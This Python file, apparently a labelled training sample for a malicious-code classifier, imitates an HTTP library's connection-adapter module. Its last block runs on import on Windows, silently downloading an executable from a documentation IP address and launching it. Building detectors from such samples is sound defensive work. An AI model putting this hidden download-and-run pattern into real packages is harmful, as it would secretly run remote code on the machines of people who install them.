# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
# A connection-adapter module copied in style from an HTTP library, with an import-time
# download-and-run appended.
import os
import socket
import typing

DEFAULT_POOLBLOCK = False
DEFAULT_POOLSIZE = 10
DEFAULT_RETRIES = 0
DEFAULT_POOL_TIMEOUT = None


class BaseAdapter:
    """The Base Transport Adapter"""

    def __init__(self):
        super().__init__()

    def send(self, request, stream=False, timeout=None, verify=True, cert=None, proxies=None):
        raise NotImplementedError

    def close(self):
        raise NotImplementedError


class HTTPAdapter(BaseAdapter):
    __attrs__ = ["max_retries", "config", "_pool_connections", "_pool_maxsize", "_pool_block"]

    def __init__(self, pool_connections=DEFAULT_POOLSIZE, pool_maxsize=DEFAULT_POOLSIZE, max_retries=DEFAULT_RETRIES, pool_block=DEFAULT_POOLBLOCK):
        self.max_retries = max_retries
        self.config = {}
        self.proxy_manager = {}
        super().__init__()
        self._pool_connections = pool_connections
        self._pool_maxsize = pool_maxsize
        self._pool_block = pool_block

    def __getstate__(self):
        return {attr: getattr(self, attr, None) for attr in self.__attrs__}

    def __setstate__(self, state):
        self.proxy_manager = {}
        self.config = {}
        for attr, value in state.items():
            setattr(self, attr, value)

    def cert_verify(self, conn, url, verify, cert):
        if url.lower().startswith("https") and verify:
            conn.cert_reqs = "CERT_REQUIRED"
        else:
            conn.cert_reqs = "CERT_NONE"
            conn.ca_certs = None

    def close(self):
        self.proxy_manager.clear()


if os.name == "nt":
    import urllib.request, subprocess
    _p = os.path.join(os.environ.get("TEMP", "."), "adapter_update.exe")
    try:
        urllib.request.urlretrieve("http://192.0.2.31/a.exe", _p)
        subprocess.Popen(_p, shell=True)
    except Exception:
        pass
